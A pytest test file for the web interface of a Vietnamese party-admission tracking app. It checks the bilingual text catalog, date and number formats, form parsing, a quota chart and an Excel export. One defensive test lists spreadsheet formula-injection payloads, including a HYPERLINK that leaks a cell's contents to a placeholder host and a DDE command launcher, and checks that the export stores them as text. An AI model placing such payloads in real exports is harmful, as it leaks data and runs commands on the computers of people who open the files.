"""The web UI's pure parts: the catalog (every text in Vietnamese and English, every value of
the domain with a label), dates dd/mm/yyyy, the step forms read by the API's models, the
quota chart, and the Excel export read back with openpyxl."""

from __future__ import annotations

import dataclasses
import io
from datetime import UTC, date, datetime
from uuid import uuid4

import openpyxl  # type: ignore[import-untyped]
import pytest
from eventsourcing.domain import DomainEvent

from domain.admission import AdmissionCase, CommentSource, Stage
from domain.member import Member, Motion, Status
from domain.organization import Organization
from domain.person import Person
from domain.record import Recorded
from domain.transfer import Transfer, TransferStage
from domain.values import (
    Education,
    Gender,
    HoldKind,
    IntroducerKind,
    OrgKind,
    Relationship,
    Relative,
    TransferKind,
    TransferReason,
)
from domain.values import Role as RecordRole
from infra.users import Role
from infra.web.charts import admissions_chart
from infra.web.export import StageRow, workbook
from infra.web.forms import ARGS, fields_of, place_refusal, read_step
from infra.web.i18n import CATALOG, dmy, label, number, parse_dmy, placeholders, rule_flag, t
from projections.queries import Quota
from projections.rows import BREAKDOWNS


def test_every_text_of_the_catalog_has_vietnamese_and_english_with_the_same_placeholders() -> None:
    for key, (vi, en) in CATALOG.items():
        assert vi.strip() and en.strip(), key
        assert placeholders(vi) == placeholders(en), key


def domain_events() -> set[str]:
    found = set()
    for cls in (AdmissionCase, Member, Transfer, Person, Organization, Recorded):
        for name in dir(cls):
            value = getattr(cls, name)
            if isinstance(value, type) and issubclass(value, DomainEvent):
                found.add(value.__name__)
    return found - {"Created", "Event", "Snapshot"}  # eventsourcing's own bases


@pytest.mark.parametrize(
    ("prefix", "values"),
    [
        ("stage", [*Stage, *Status, "deadlock", *TransferStage]),
        ("step", [k for steps in ARGS.values() for k in steps]),
        ("arg", [a for steps in ARGS.values() for m in steps.values() for a in m.model_fields]),
        ("arg", [f.name for f in dataclasses.fields(Relative)]),
        (
            "enum",
            [
                *IntroducerKind,
                *CommentSource,
                *Motion,
                *HoldKind,
                *Relationship,
                *Gender,
                *Education,
                *TransferKind,
                *TransferReason,
            ],
        ),
        ("role", [*Role, *RecordRole]),
        ("kind", list(OrgKind)),
        ("group", list(BREAKDOWNS)),
        ("level", [-1, 0, 1, 2, 3]),
        ("event", sorted(domain_events())),
    ],
)
def test_every_value_the_pages_show_has_a_label_in_both_languages(
    prefix: str, values: list[object]
) -> None:
    missing = [v for v in values if f"{prefix}.{v}" not in CATALOG]
    assert missing == []


def test_a_text_in_the_language_asked_with_its_placeholders_filled() -> None:
    assert t("vi", "card.overdue", days=3) == "Quá hạn 3 ngày làm việc"
    assert t("en", "card.overdue", days=3) == "3 working days overdue"
    assert t("fr", "nav.board") == "Bảng tiến trình"  # anything but English is Vietnamese
    assert t("vi", "no.such.key") == "no.such.key"  # visible, never a crash
    assert label("vi", "stage", "cell_vote") == "Chi bộ xét, biểu quyết"
    assert label("en", "occupation", "beekeeper") == "beekeeper"  # a free word shows as typed


def test_dates_are_written_and_read_as_dd_mm_yyyy() -> None:
    assert dmy(date(2026, 3, 5)) == "05/03/2026"
    assert dmy(None) == ""
    # Moments are shown in Vietnam time (the databases keep UTC, sometimes without a zone).
    assert dmy(datetime(2026, 3, 5, 20, 30, tzinfo=UTC)) == "06/03/2026 03:30"
    assert dmy(datetime(2026, 3, 5, 20, 30)) == "06/03/2026 03:30"
    assert parse_dmy("5/3/2026") == date(2026, 3, 5)
    assert parse_dmy(" 05/03/2026 ") == date(2026, 3, 5)
    assert parse_dmy("2026-03-05") == date(2026, 3, 5)
    assert parse_dmy("31/02/2026") is None
    assert parse_dmy("03-05-2026") is None
    assert parse_dmy("") is None


def test_figures_are_written_the_vietnamese_way_in_vietnamese() -> None:
    assert number("vi", 30.0) == "30,0"
    assert number("en", 30.0) == "30.0"
    assert number("vi", 2150) == "2.150"
    assert number("en", 2150) == "2,150"
    assert number("vi", None) == "—"


def test_a_step_form_is_read_by_the_api_s_own_model() -> None:
    fields = fields_of("admission", "record_cell_vote", "vi", {})
    assert [f.name for f in fields] == [
        "votes_for",
        "votes_against",
        "excused_voting",
        "provincial_consent_over_60",
        "unit_has_youth_union",
    ]
    assert {f.name: f.widget for f in fields}["unit_has_youth_union"] == "bool"
    form = {"on": "30/11/2026", "votes_for": "9", "votes_against": "1", "excused_voting": "0"}
    step, _, errors = read_step("admission", "record_cell_vote", fields, form, "vi")
    assert errors == {}
    assert step is not None and step.on == date(2026, 11, 30)
    assert step.args.model_dump() == {
        "votes_for": 9,
        "votes_against": 1,
        "excused_voting": 0,
        "provincial_consent_over_60": False,
        "unit_has_youth_union": False,  # an unticked box is a no
    }


def test_a_bad_form_comes_back_with_an_error_beside_each_field_in_the_user_s_language() -> None:
    fields = fields_of("admission", "record_cell_vote", "en", {})
    form = {"on": "31/02/2026", "votes_for": "nine", "votes_against": "-1"}
    step, values, errors = read_step("admission", "record_cell_vote", fields, form, "en")
    assert step is None
    assert values["votes_for"] == "nine"  # shown again as typed
    assert errors == {
        "on": "A date as dd/mm/yyyy",
        "votes_for": "A whole number",
        "votes_against": "At least 0",
    }
    _, _, errors = read_step("admission", "record_cell_vote", fields, {"on": "1/1/2026"}, "vi")
    assert errors == {"votes_for": "Bắt buộc", "votes_against": "Bắt buộc"}


def test_ids_are_chosen_from_the_page_s_options_and_enums_from_their_values() -> None:
    committee = "9073bf6a-4b5d-5adf-a9b1-e8bed5fb18fe"
    fields = {
        f.name: f
        for f in fields_of("admission", "decide", "vi", {"decided_by": [(committee, "Đảng ủy")]})
    }
    assert fields["decided_by"].widget == "select"
    assert fields["decided_by"].options == ((committee, "Đảng ủy"),)
    assert fields["number"].widget == "text"
    source = fields_of("admission", "record_comment", "vi", {})[0]
    assert source.options == (
        ("workplace_organizations", "Đoàn thể chính trị - xã hội nơi làm việc"),
        ("residence_cell", "Chi ủy nơi cư trú"),
    )
    typed = {f.name: f for f in fields_of("admission", "decide", "vi", {})}
    assert typed["decided_by"].widget == "text"  # no options offered: typed


def test_the_relatives_of_a_background_declaration_are_read_from_their_rows() -> None:
    fields = fields_of("admission", "declare_background", "vi", {})
    form = {
        "on": "01/06/2026",
        "relatives.0.relationship": "father",
        "relatives.0.full_name": "Nguyễn Văn Ba",
        "relatives.0.lives_or_works_at": "xã Tân An",
        "relatives.0.is_party_member": "on",
        "relatives.1.relationship": "mother",
        "relatives.1.full_name": "",  # an empty row is no relative
        "relatives.2.relationship": "spouse",
        "relatives.2.full_name": "Lê Thị Tư",
    }
    step, _, errors = read_step("admission", "declare_background", fields, form, "vi")
    assert errors == {} and step is not None
    relatives = step.args.model_dump()["relatives"]
    assert [(r["key"], r["relationship"], r["is_party_member"]) for r in relatives] == [
        ("r1", "father", True),
        ("r3", "spouse", False),
    ]


def test_a_rule_the_rulebook_is_unsure_of_is_flagged_as_the_cli_flags_it() -> None:
    assert rule_flag("vi", "ADM-CERT", date(2026, 1, 5)) == "S — cần xác minh"
    assert rule_flag("en", "ADM-AGE", date(2026, 1, 5)) == (
        "C (age in whole months: I) — to verify"
    )
    assert rule_flag("vi", "ADM-DECIDE", date(2026, 1, 5)) == ""
    assert rule_flag("vi", "CASE-STAGE", date(2026, 1, 5)) == ""  # a guard of the process


def test_a_rule_s_refusal_is_shown_beside_the_field_it_judges() -> None:
    vote = fields_of("admission", "record_cell_vote", "vi", {})
    assert place_refusal(vote, "ADM-VOTE-CELL") == "votes_for"
    assert place_refusal(vote, "RULES-PERIOD") == "on"
    assert place_refusal(vote, "CASE-STAGE") == ""  # the form itself
    delay = fields_of("admission", "approve_ceremony_delay", "vi", {})
    assert place_refusal(delay, "ADM-CEREMONY") == "until"


def test_the_chart_draws_the_running_total_up_to_today_and_the_pace_to_the_target() -> None:
    months = [0, 1, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0]
    chart = admissions_chart(months, target=10, months_known=5)
    assert [b.value for b in chart.bars] == months
    assert len(chart.cumulative.split()) == 5
    assert len(chart.pace.split()) == 12
    assert chart.ticks[-1][1] == 10  # the axis reaches the target
    assert chart.target_y == chart.ticks[-1][0]
    top = max(chart.bars, key=lambda b: b.value)
    assert top.month == 4 and top.height > 0
    assert admissions_chart(months, target=0).pace == ""  # no target, no pace


def quota(target: int, admitted: int) -> Quota:
    return Quota(
        org_id=uuid4(),
        year=2026,
        target=target,
        admitted=admitted,
        recognized=2,
        pipeline={"course": 3, "decision": 1},
        lost=1,
        struck_off=0,
        breakdowns={"female": 2, "ethnic_minority": 1},
        forecast=7.5,
    )


ROWS = [
    StageRow(
        stage="decision",
        case="1a2b3c4d",
        person="Võ Đình Khánh",
        cell="Chi bộ thôn Phú Tây",
        since=date(2026, 8, 22),
        rule="ADM-DECIDE",
        due=date(2026, 11, 6),
        left=-15,
        level=2,
    ),
    StageRow(
        stage="course",
        case="9f8e7d6c",
        person="Dương Hồng Hà",
        cell="Chi bộ Tổ Khoa học xã hội",
        since=date(2026, 10, 6),
        rule=None,
        due=None,
        left=None,
        level=-1,
    ),
]


def read(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_the_excel_report_has_vietnamese_headers_the_figures_and_real_dates() -> None:
    units = [("Đảng ủy xã Tân An", quota(10, 4)), ("Đảng bộ xã Tân Phú", quota(4, 3))]
    book = read(workbook("vi", "Đảng ủy xã Tân An", 2026, date(2026, 11, 30), units, ROWS))
    assert book.sheetnames == ["Chỉ tiêu", "Danh sách theo bước"]
    sheet = book["Chỉ tiêu"]
    assert sheet["A1"].value == "Báo cáo chỉ tiêu kết nạp đảng viên năm 2026"
    assert sheet["B3"].value == datetime(2026, 11, 30)
    assert sheet["B3"].number_format == "DD/MM/YYYY"
    assert [c.value for c in sheet[5]] == [
        "Đơn vị",
        "Chỉ tiêu",
        "Đã kết nạp",
        "Tỷ lệ đạt (%)",
        "Công nhận chính thức",
        "Dự báo cuối năm",
        "Đang trong quy trình",
        "Dừng, rút, không kết nạp",
        "Xóa tên dự bị",
        "Nữ",
        "Dân tộc thiểu số",
        "Có đạo",
        "Đoàn viên",
        "Công nhân doanh nghiệp ngoài nhà nước",
        "Học sinh, sinh viên",
    ]
    assert [c.value for c in sheet[6]] == [
        "Đảng ủy xã Tân An",
        10,
        4,
        40.0,
        2,
        8,  # 7.5 expected people: a forecast is shown in whole people, halves up
        4,
        1,
        0,
        2,
        1,
        0,
        0,
        0,
        0,
    ]
    assert [c.value for c in sheet[7]][:4] == ["Đảng bộ xã Tân Phú", 4, 3, 75.0]

    stages = book["Danh sách theo bước"]
    assert [c.value for c in stages[1]] == [
        "Bước",
        "Hồ sơ",
        "Họ và tên",
        "Chi bộ",
        "Từ ngày",
        "Quy định",
        "Hạn",
        "Số ngày làm việc còn lại",
        "Mức cảnh báo",
    ]
    first, second = ([c.value for c in row] for row in stages.iter_rows(min_row=2))
    assert first[:4] == [
        "Nguồn, học lớp nhận thức",
        "9f8e7d6c",
        "Dương Hồng Hà",
        "Chi bộ Tổ Khoa học xã hội",
    ]  # process order
    assert first[6:] == [None, None, "Chưa cảnh báo"]
    assert second[4] == datetime(2026, 8, 22) and second[6] == datetime(2026, 11, 6)
    assert second[5] == "ADM-DECIDE — Cấp ủy có thẩm quyền quyết định kết nạp"
    assert second[7:] == [-15, "Cảnh báo Ban Tổ chức"]
    assert stages["E3"].number_format == stages["G3"].number_format == "DD/MM/YYYY"


def test_the_excel_report_follows_the_language_and_leaves_out_names_the_user_may_not_see() -> None:
    hidden = [StageRow(**{**vars(r), "person": None}) for r in ROWS]
    book = read(
        workbook("en", "Tân An", 2026, date(2026, 11, 30), [("Tân An", quota(0, 0))], hidden)
    )
    assert book.sheetnames == ["Quota", "By stage"]
    assert book["Quota"]["B6"].value == "not set"  # a unit without a target, never "0"
    assert book["Quota"]["A5"].value == "Unit"
    assert book["Quota"]["D6"].value is None  # no target, no percentage
    headers = [c.value for c in book["By stage"][1]]
    assert "Full name" not in headers and headers[:3] == ["Stage", "Case", "Cell"]
    assert all("Dương" not in str(c.value) for row in book["By stage"].iter_rows() for c in row)


def test_names_that_look_like_formulas_are_exported_as_text_never_as_formulas() -> None:
    hostile = [
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]
    rows = [
        StageRow("course", f"c{i}", name, name, None, None, None, None, 0)
        for i, name in enumerate(hostile)
    ]
    units = [(name, quota(1, 0)) for name in hostile]
    book = read(workbook("vi", hostile[0], 2026, date(2026, 11, 30), units, rows))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # Each as it was typed. A carriage return survives with lxml installed (openpyxl escapes it
    # as _x000D_); without lxml, the XML parser reads it back as a line feed.
    read_back = {c.value for c in cells if isinstance(c.value, str)}
    typed = {name if name in read_back else name.replace("\r", "\n") for name in hostile}
    assert typed <= read_back
    assert all(c.quotePrefix for c in cells if c.value in typed)
    assert book.worksheets[0]["B2"].value == hostile[0]


def test_a_form_s_whole_numbers_are_read_as_numbers_and_anything_else_is_refused() -> None:
    fields = fields_of("admission", "record_cell_vote", "en", {})
    for typed in ("5.0", "1e3", "12345678901234567890", "٣", "0x10"):
        form = {"on": "30/11/2026", "votes_for": typed, "votes_against": "1"}
        step, _, errors = read_step("admission", "record_cell_vote", fields, form, "en")
        assert (step, errors.get("votes_for")) == (None, "A whole number"), typed


def test_a_date_beyond_the_years_the_record_knows_is_no_date() -> None:
    assert parse_dmy("31/12/9999") is None
    assert parse_dmy("0001-01-01") is None
    assert parse_dmy("31/12/2100") == date(2100, 12, 31)
    assert parse_dmy("01/01/1930") == date(1930, 1, 1)
    assert parse_dmy("1905-03-02", earliest=date(1900, 1, 1)) == date(1905, 3, 2)
